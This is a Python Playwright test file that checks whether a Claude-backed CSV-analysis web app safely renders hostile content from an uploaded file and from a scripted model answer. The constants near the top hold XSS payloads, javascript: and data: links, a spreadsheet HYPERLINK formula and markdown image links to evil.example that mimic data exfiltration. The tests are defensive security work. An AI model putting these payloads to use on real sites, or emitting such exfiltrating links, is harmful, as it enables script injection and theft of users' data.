"""Cells, names and a model that mean harm: nothing runs, nothing leaves. Every page's `Watch` looks on."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from tests.client import Api
from tests.scripted_claude import ScriptedClaude, answer, for_model, use
from tests.web.conftest import Visit
from tests.web.person import Person, expect_drawn

IMAGE = "<img src=x onerror=window.hacked=1>"
SCRIPT = "<script>window.hacked=1</script>"
LINK = "javascript:window.hacked=1"
FILE = f'''"{IMAGE}",amount,"{LINK}"
"{IMAGE}",1,"{SCRIPT}"
"{SCRIPT}",2,"=HYPERLINK(""http://evil.example"")"
"{LINK}",3,"<svg onload=window.hacked=1>"
'''.encode()
FIRST = f'"{IMAGE}"'
SQL = f"SELECT {FIRST} AS {FIRST}, sum(amount) AS total FROM data GROUP BY ALL ORDER BY total"
SPEC = {
    "mark": "bar",
    "encoding": {
        "x": {"field": IMAGE, "type": "nominal"},
        "y": {"field": "total", "type": "quantitative"},
        "tooltip": [{"field": IMAGE, "type": "nominal"}, {"field": "total", "type": "quantitative"}],
    },
}
MARKDOWN = f"""Look ![secrets](http://evil.example/?q=1) and ![](https://evil.example/p.png).

{IMAGE}{SCRIPT}<iframe src="http://evil.example"></iframe><style>@import "http://evil.example";</style>

[a link]({LINK}) [data](data:text/html,<script>window.hacked=1</script>) <http://evil.example/auto>

| {IMAGE} |
|---|
| ![]({LINK}) |

[ref]: http://evil.example "{IMAGE}"
![ref]
"""


@pytest.fixture
def reader(visit: Visit, claude_api: Api, scripted_claude: ScriptedClaude) -> Person:
    """Somebody before an answer of a model that was told by the file to do harm."""
    scripted_claude.script(answer(IMAGE), when=for_model("haiku"))
    scripted_claude.script(
        answer(use("generate_query", {"sql": SQL})),
        answer(use("create_plot", {"title": IMAGE, "sql": SQL, "vega_lite_spec": SPEC})),
        answer(MARKDOWN, use("finish", {"follow_ups": [IMAGE, f"[x]({LINK})"]})),
    )
    session_id = claude_api.upload(FILE, f"{IMAGE}.csv")
    person = visit(api=claude_api).open_chat(session_id)
    person.ask(f"What is {IMAGE}?")
    person.expect_answered()
    expect(person.follow_ups).to_have_count(2)
    return person


def expect_unharmed(page: Page) -> None:
    assert page.evaluate("window.hacked") is None
    foreign = "img[src^='http' i], iframe, object, embed, [onerror], [onload], script:not([src]), base"
    expect(page.locator(foreign)).to_have_count(0)
    links = "a[href^='javascript' i], a[href^='data' i], a[*|href^='javascript' i]"
    expect(page.locator(links)).to_have_count(0)


def test_an_answer_and_its_chart_do_no_harm(reader: Person) -> None:
    page, turn = reader.page, reader.turns.last
    chart = turn.get_by_role("figure").first
    expect_drawn(chart)
    chart.locator("svg g.role-mark path").first.hover()
    expect(page.get_by_role("tooltip")).to_contain_text("window.hacked=1")
    for link in turn.get_by_role("link").all():
        assert str(link.get_attribute("href")).startswith(("http://evil.example", "https://evil.example"))
        assert "noopener" in str(link.get_attribute("rel"))
        assert link.get_attribute("target") == "_blank"
    expect_unharmed(page)


def test_tables_dialogs_and_lists_do_no_harm(reader: Person) -> None:
    page = reader.page
    reader.turns.last.get_by_role("button", name="Show SQL").first.click()
    reader.tab("Data")
    for name in ("Preview rows", "Import report", "Executions", "Chart suggestions"):
        reader.button(name).click()
        dialog = page.get_by_role("dialog")
        expect(dialog).to_be_visible()
        expect(
            dialog.get_by_text(IMAGE)
            .or_(dialog.get_by_role("status"))
            .or_(dialog.get_by_role("figure"))
            .first
        ).to_be_visible()
        expect_unharmed(page)
        page.keyboard.press("Escape")
        expect(dialog).to_be_hidden()
    reader.tab("History")
    expect(page.get_by_text(IMAGE).first).to_be_visible()
    expect_unharmed(page)
    page.reload()
    expect(reader.turns).to_have_count(1)
    expect_unharmed(page)


def test_a_copied_table_disarms_formulas(reader: Person) -> None:
    page = reader.page
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    reader.turns.last.get_by_role("button", name="Copy table").click()
    expect(page.get_by_text("Copied", exact=True)).to_be_attached()
    copied = page.evaluate("navigator.clipboard.readText()")
    lines = copied.splitlines()
    assert len(lines) == 4
    assert not any(cell.startswith(("=", "+", "@")) for line in lines for cell in line.split("\t"))


def test_an_answer_nested_without_end_leaves_the_rest_readable(
    visit: Visit, claude_api: Api, scripted_claude: ScriptedClaude
) -> None:
    scripted_claude.script(answer("Quotes"), when=for_model("haiku"))
    finish = use("finish", {"follow_ups": []})
    scripted_claude.script(answer("> " * 4_000 + "deep", finish), answer("Still here.", finish))
    person = visit(api=claude_api).open_chat(claude_api.upload())
    person.ask("quote yourself")
    person.expect_answered()
    expect(person.ask("are you there?")).to_contain_text("Still here.")
    person.page.reload()
    expect(person.turns.last).to_contain_text("Still here.")


def test_junk_in_the_storage_leads_to_a_usable_page(visit: Visit, api: Api) -> None:
    person = visit(api=api).open()
    person.expect_upload_page()
    person.page.evaluate(
        """() => {
          localStorage.setItem("csv_analyzer_session_id", "../../a/b");
          sessionStorage.setItem("csv_analyzer_import", '{"jobId": {}, "sessionId": 1, "filename": []}');
        }"""
    )
    person.open()
    person.expect_upload_page()
